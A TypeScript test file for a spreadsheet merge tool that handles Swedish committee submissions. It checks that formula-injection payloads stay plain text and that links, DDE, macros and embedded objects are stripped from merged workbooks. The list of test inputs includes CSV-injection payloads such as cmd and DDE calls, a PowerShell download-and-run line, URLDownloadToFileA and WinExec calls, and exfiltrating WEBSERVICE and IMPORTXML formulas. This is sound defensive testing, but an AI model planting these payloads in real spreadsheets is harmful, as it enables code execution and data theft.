import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { merge } from "../../src/commands/merge";
import { templateFiles, templates } from "../../src/commands/templates";
import { excelWorkbook } from "../../src/excel/workbook";
import { setCell, usedArea, valueAt, type Sheet } from "../../src/sheet/book";
import { readSubmissionLog, SUBMISSION_LOG_TAG } from "../../src/submissions/log";
import { openHost } from "../../workbench/host";
import { bookOf, fileOf, NOW } from "../excel/kit";
import { cellFor, fill, headerOf } from "./mess";
import { COMMITTEES, FIELD_COLUMN, town } from "./town";
import { sampled } from "../whole";
import { setTop } from "./topField";

/**
 * OWASP, CSV injection, and the payloads its sources list: what spreadsheet programs calculate, run, look up or fetch
 * when it is typed into a cell.
 */
const TEXTS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.invalid/x)'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid?x="&A1&A2,"Klicka för mer")',
  '=HYPERLÄNK("http://example.invalid";"läs mer")',
  '=WEBSERVICE("http://example.invalid")',
  '=IMPORTXML(CONCAT("http://example.invalid?v=";CONCATENATE(A2:E2));"//a")',
  '=IMAGE("http://example.invalid/x.png")',
  '=DDE("cmd";"/C calc";"!A0")',
  '=DDE("server","file","item","mode")',
  "='[bok.xlsx]Blad1'!A1",
  "='file:///etc/passwd'#$passwd.A1",
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","x",0,0)',
  '=EXEC("calc.exe")',
  '=REGISTER.ID("kernel32","WinExec")',
  '=RTD("prog",,"x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  "'=1+1",
  '";=1+1',
  "%0A-1+1",
  '=1+1";"=2+2',
  "{=1+1}",
  "- först en punkt\n- sedan en till",
];

const { rows } = town();
/** A nämnd's first goal and first indicator. */
const firstOf = (committee: string) => ({
  goal: rows.find((one) => one.committee === committee && one.kind === "goal")!,
  measure: rows.find((one) => one.committee === committee && one.kind === "indicator")!,
});
/** Six texts at a time, one for each nämnd. */
const GROUPS = Array.from({ length: Math.ceil(TEXTS.length / COMMITTEES.length) }, (_, i) =>
  TEXTS.slice(i * COMMITTEES.length, (i + 1) * COMMITTEES.length),
);
const statedBy = (texts: string[]) =>
  texts.map((text, i) => ({ text, committee: COMMITTEES[i]!, ...firstOf(COMMITTEES[i]!) }));
const seen = (text: string): string => text.replace(/\r\n?/g, "\n").trim();
const inOneLine = (text: string): string => text.replace(/\s+/g, " ").trim();

async function desk() {
  const host = await openHost({ file: fileOf([town().sheet]), now: NOW });
  const surroundings = { workbook: excelWorkbook(host.Excel), now: NOW, progress: () => undefined };
  return {
    host,
    surroundings,
    async mergeAll(files?: { name: string; bytes: Uint8Array }[]) {
      const all = await merge.perform({ files, accept: "none" }, surroundings);
      if (!all.ok) throw new Error(all.reason);
      const done = await merge.perform({ files, accept: all.value.diff.changes.map(({ id }) => id) }, surroundings);
      if (!done.ok) throw new Error(done.reason);
      return done.value;
    },
  };
}

const sent = new Map<string, Uint8Array>();
beforeAll(async () => {
  const made = await templateFiles.perform({}, (await desk()).surroundings);
  if (!made.ok) throw new Error(made.reason);
  for (const { committee, bytes } of made.value.files) sent.set(committee, bytes);
});
const templateOf = (committee: string): Sheet => bookOf(sent.get(committee)!).sheets[0]!;

/**
 * A text in every place of a template that a user may write in: outcome, grade, comment, the decision, an added row and
 * an added cell.
 */
function everywhere(sheet: Sheet, { text, goal, measure }: ReturnType<typeof statedBy>[number]): void {
  fill(sheet, [
    { row: measure, field: "outcome", typed: text, lands: text },
    { row: goal, field: "grade", typed: text, lands: text },
    { row: goal, field: "comment", typed: text, lands: text },
  ]);
  for (const label of ["Sammanträde", "Paragraf"]) setTop(sheet, label, text);
  const header = headerOf(sheet);
  setCell(sheet, header + 7, 2, text);
  setCell(sheet, header + 7, 6, text);
  setCell(sheet, usedArea(sheet)!.bottom + 2, 3, text);
}

/** Active content in a saved workbook: formulas, links, and parts that run, fetch or embed something. */
function active(bytes: Uint8Array): string[] {
  const parts = unzipSync(bytes);
  const names = Object.keys(parts).filter((name) =>
    /external|connection|querytable|vba|macro|embed|activex|ctrlprop|customui|webextension|drawing|pivot|oleobject/i.test(
      name,
    ),
  );
  const markup = Object.entries(parts).flatMap(([name, part]) =>
    [
      ...strFromU8(part).matchAll(
        /<f[ >/]|<hyperlink|<oleObject|<control |ddeLink|TargetMode="External"|_xlnm\.Auto_Open/gi,
      ),
    ].map(([found]) => `${name}: ${found}`),
  );
  return [...names, ...markup];
}

describe("what looks like a formula is kept as text: in Excel as it is typed, and in the written file", () => {
  sampled(
    3,
    GROUPS.map((texts) => [texts]),
  )("in files: %j", async (texts) => {
    const all = statedBy(texts);
    const files = all.map((one) => {
      const sheet = templateOf(one.committee);
      everywhere(sheet, one);
      return { name: `${one.committee}.xlsx`, bytes: fileOf([sheet]) };
    });
    const { host, mergeAll } = await desk();
    const { diff, written } = await mergeAll(files);
    expect(written).toHaveLength(3 * texts.length);
    const saved = host.save();
    for (const { sheets } of [host.book, bookOf(saved)]) {
      const log = readSubmissionLog(sheets.find(({ tag }) => tag === SUBMISSION_LOG_TAG))!.rows;
      for (const { text, committee, goal, measure } of all) {
        const at = (row: number, column: number): string => seen(String(valueAt(sheets[0]!, row, column)));
        expect([
          at(measure.row, FIELD_COLUMN.outcome),
          at(goal.row, FIELD_COLUMN.grade),
          at(goal.row, FIELD_COLUMN.comment),
        ]).toEqual([seen(text), seen(text), seen(text)]);
        const committeeRows = log.filter((row) => row.committee === committee);
        expect(
          committeeRows.map(({ after, decision }) => [
            seen(after),
            inOneLine(decision).split(inOneLine(text)).length - 1,
          ]),
        ).toEqual([
          [seen(text), 2],
          [seen(text), 2],
          [seen(text), 2],
        ]);
      }
      expect(sheets.flatMap(({ formulas }) => [...formulas.values()])).toEqual([]);
    }
    expect(active(saved)).toEqual([]);
    expect(diff.unknown.map(({ title }) => seen(title))).toEqual(texts.map(seen));
    expect(diff.beside.map(({ value }) => seen(String(value)))).toEqual(texts.map(seen));
  });

  sampled(
    3,
    GROUPS.map((texts) => [texts]),
  )("in templates of the workbook that are made again: %j", async (texts) => {
    const { host, surroundings } = await desk();
    await templates.perform({}, surroundings);
    const templateIn = (sheets: Sheet[], committee: string): Sheet =>
      sheets.find(({ tag }) => tag === `mall:${committee.toLowerCase()}`)!;
    for (const one of statedBy(texts)) everywhere(templateIn(host.book.sheets, one.committee), one);
    const made = await templates.perform({}, surroundings);
    if (!made.ok) throw new Error(made.reason);
    const saved = host.save();
    for (const { sheets } of [host.book, bookOf(saved)]) {
      for (const { text, committee, goal, measure } of statedBy(texts)) {
        const sheet = templateIn(sheets, committee);
        expect(sheet.formulas.size).toBe(0);
        for (const [title, field] of [
          [measure.title, "outcome"],
          [goal.title, "grade"],
          [goal.title, "comment"],
        ] as const)
          expect(seen(String(valueAt(sheet, ...cellFor(sheet, title, field))))).toBe(seen(text));
        const left = sheet.values
          .slice(sheet.values.findIndex((cells) => cells?.includes("Kvarlämnat")))
          .flatMap((cells) => cells ?? []);
        // The added row, its figure, and the cell below.
        expect(left.filter((value) => typeof value === "string" && value.includes(seen(text)))).toHaveLength(3);
      }
    }
    expect(active(saved)).toEqual([]);
  });
});

const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

const [GOAL, WAIT] = [
  rows.find(({ title }) => title.startsWith("Äldre får"))!,
  rows.find(({ title }) => title.startsWith("Väntetid"))!,
];

describe("what hangs on a submission stays in it", () => {
  /** Parts that a file may have besides cells, and what the sheet must report. */
  const ATTACKS: [string, Record<string, string>, string][] = [
    [
      "a link to another book",
      {
        "xl/externalLinks/externalLink1.xml": `<externalLink ${MAIN}><externalBook/></externalLink>`,
        "xl/externalLinks/_rels/externalLink1.xml.rels":
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="http://example.invalid/b.xlsx" TargetMode="External"/></Relationships>',
      },
      "",
    ],
    [
      "a DDE link",
      {
        "xl/externalLinks/externalLink1.xml": `<externalLink ${MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
      },
      "",
    ],
    [
      "an OLE link",
      { "xl/externalLinks/externalLink1.xml": `<externalLink ${MAIN}><oleLink progId="Package"/></externalLink>` },
      "",
    ],
    [
      "a data connection",
      {
        "xl/connections.xml": `<connections ${MAIN}><connection id="1" type="4" refreshOnLoad="1"/></connections>`,
        "xl/queryTables/queryTable1.xml": `<queryTable ${MAIN} name="q" connectionId="1"/>`,
      },
      "",
    ],
    [
      "a pivot table",
      {
        "xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition ${MAIN} refreshOnLoad="1"/>`,
        "xl/pivotTables/pivotTable1.xml": `<pivotTableDefinition ${MAIN}/>`,
      },
      "",
    ],
    [
      "macros",
      { "xl/vbaProject.bin": "makro", "xl/macrosheets/sheet1.xml": `<worksheet ${MAIN}><sheetData/></worksheet>` },
      "",
    ],
    [
      "an embedded object",
      { "xl/embeddings/oleObject1.bin": "objekt" },
      '<oleObjects><oleObject progId="Package" shapeId="1"/></oleObjects>',
    ],
    [
      "a control",
      { "xl/activeX/activeX1.xml": "<ocx/>", "xl/ctrlProps/ctrlProp1.xml": "<formControlPr/>" },
      '<controls><control shapeId="1"/></controls>',
    ],
    [
      "a picture with a link",
      {
        "xl/drawings/drawing1.xml":
          '<wsDr xmlns="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>',
      },
      "",
    ],
    [
      "a custom ribbon and a web extension",
      { "customUI/customUI.xml": "<customUI/>", "xl/webextensions/webextension1.xml": "<webextension/>" },
      "",
    ],
    ["links on cells", {}, '<hyperlinks><hyperlink ref="I15" location="=cmd|calc" display="läs mer"/></hyperlinks>'],
  ];

  sampled(3, ATTACKS)("%s", async (_, added, onSheet) => {
    const sheet = templateOf(WAIT.committee);
    fill(sheet, [
      { row: WAIT, field: "outcome", typed: 33, formula: '=HYPERLINK("http://example.invalid",33)', lands: 33 },
      { row: GOAL, field: "comment", typed: "Kön är kortare.", lands: "Kön är kortare." },
    ]);
    const parts = unzipSync(fileOf([sheet]));
    for (const [name, text] of Object.entries(added)) parts[name] = strToU8(text);
    const path = "xl/worksheets/sheet1.xml";
    parts[path] = strToU8(strFromU8(parts[path]!).replace("</worksheet>", `${onSheet}</worksheet>`));
    parts["xl/workbook.xml"] = strToU8(
      strFromU8(parts["xl/workbook.xml"]!).replace(
        "</workbook>",
        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Mall!$A$1</definedName></definedNames></workbook>',
      ),
    );
    const { host, mergeAll } = await desk();
    const { diff } = await mergeAll([{ name: "farlig.xlsm", bytes: zipSync(parts) }]);
    expect(diff.changes.map(({ after, notes }) => [after, notes])).toEqual([
      ["Kön är kortare.", []],
      ["33 dagar", ["I cellen står en formel. Värdet som den visar är läst."]],
    ]);
    const saved = host.save();
    expect(active(saved)).toEqual([]);
    expect(
      Object.values(unzipSync(saved))
        .map((bytes) => strFromU8(bytes))
        .filter((text) => text.includes("example.invalid")),
    ).toEqual([]);
    expect([
      valueAt(host.book.sheets[0]!, WAIT.row, FIELD_COLUMN.outcome),
      valueAt(host.book.sheets[0]!, GOAL.row, FIELD_COLUMN.comment),
    ]).toEqual([33, "Kön är kortare."]);
  });
});
